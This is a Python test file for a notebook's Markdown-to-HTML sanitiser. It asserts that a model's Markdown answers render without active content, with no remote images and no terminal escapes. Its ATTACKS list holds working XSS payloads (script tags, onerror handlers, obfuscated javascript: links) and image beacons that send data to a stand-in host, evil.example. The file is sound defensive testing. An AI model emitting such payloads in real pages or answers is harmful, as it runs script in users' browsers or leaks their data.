"""A model's Markdown does nothing on a page but read well."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dknb.notebook.markdown import answer_bundle, defused_markdown, markdown_to_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[x](javascript:alert(1))",
    "[x](  JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "![x](http://evil.example/leak.png?q=secret)",
    "![x][1]\n\n[1]: http://evil.example/leak.png",
    "![x](javascript:alert(1))",
    '[x](http://a.b "\\" onmouseover=alert(1) x=\\"")',
    "<javascript:alert(1)>",
    "`<b>` <b onclick=alert(1)>x</b>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```x"><script>alert(1)</script>\n1\n```',
    "~~~\n<script>alert(1)</script>",
    "$</span><script>alert(1)</script>$",
    "$$\n<img src=x onerror=alert(1)>\n$$",
    "\\[ <img src=x onerror=alert(1)> \\]",
    "<!-- --><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "- <details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
HARMLESS = {
    "div": {"class"}, "p": set(), "a": {"href", "rel", "target", "title"}, "code": set(), "pre": set(), "span": {"style"},
    "em": set(), "strong": set(), "s": set(), "ul": set(), "ol": {"start"}, "li": set(), "blockquote": set(), "hr": set(),
    "br": set(), "table": set(), "thead": set(), "tbody": set(), "tr": set(), "th": {"style"}, "td": {"style"},
    "h1": set(), "h2": set(), "h3": set(), "h4": set(), "h5": set(), "h6": set(),
}  # fmt: skip


class Auditor(HTMLParser):
    """Collects what HTML holds beyond tags that only arrange text."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag not in HARMLESS:
            self.found.append(tag)
        for name, value in attrs:
            if name not in HARMLESS.get(tag, ()):
                self.found.append(f"{tag}.{name}")
            if name == "href" and not (value or "").startswith(("http://", "https://", "mailto:", "#", "/", "")):
                self.found.append(value)
            if name == "href" and (value or "").lower().replace(" ", "").startswith(
                ("javascript", "data:", "vbscript")
            ):
                self.found.append(value)


def active(html):
    auditor = Auditor()
    auditor.feed(html)
    auditor.close()
    return auditor.found


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_answer_brings_nothing_active_into_the_page(attack):
    """The HTML of an answer holds no tag, attribute or address that acts."""
    assert active(markdown_to_html(attack)) == []


@given(st.text(alphabet="<>/ab'\"=!-[]()`~$\\*_#|&:;\n javscript"))
def test_no_text_brings_anything_active(text):
    """Whatever the text, its HTML only arranges text."""
    assert active(markdown_to_html(text)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_defused_markdown_has_no_tag_image_or_script_link(attack):
    """In the Markdown twin no tag, image or script address is left."""
    import re

    defused = defused_markdown(attack)
    assert not re.search(r"<[A-Za-z/!?]", defused)
    assert not re.search(r"(?<!\\)!\[", defused)
    assert not re.search(r"(?i)(javascript|vbscript|data)\s*:\S", defused)
    assert not re.search(r"&(#|colon)", defused.replace("&amp;", ""))


@pytest.mark.parametrize(
    "text", ["Plain *text* with `code`.", "a < b and c > d", "1. one\n2. two", "The data: 3, 4.", "x & y"]
)
def test_harmless_markdown_comes_back_as_it_is(text):
    """Text without anything to defuse is not touched."""
    assert defused_markdown(text) == text


def test_markdown_is_rendered():
    """Emphasis, tables, fences with colours, mathematics and links arrive as such."""
    html = markdown_to_html("**b** $x_1*y*$ [l](https://a.b)\n\n|h|\n|-|\n|c|\n\n```python\ndef f(): pass\n```\n")
    assert "<strong>b</strong>" in html
    assert "$x_1*y*$" in html
    assert 'href="https://a.b"' in html
    assert "<td>c</td>" in html
    assert "--jp-mirror-editor-keyword-color" in html


def test_prices_are_no_mathematics():
    """Dollars that enclose no formula stand alone, so that no typesetter pairs them."""
    assert "<span>$</span>5 in May and <span>$</span>6 in June" in markdown_to_html(
        "It costs $5 in May and $6 in June."
    )


def test_an_image_becomes_a_link():
    """A remote image is not loaded: it can carry what the model was told to somebody else."""
    html = markdown_to_html("![chart](https://a.b/c.png)")
    assert "<img" not in html
    assert '<a href="https://a.b/c.png"' in html


def test_the_plain_text_is_the_answer_itself():
    """The text twin has every character of the answer; what a terminal would obey is shown instead."""
    assert answer_bundle("<b>x</b>\t1\n2")["text/plain"] == "<b>x</b>\t1\n2"
    assert answer_bundle("\x1b]0;title\x07")["text/plain"] == "\\x1b]0;title\\x07"
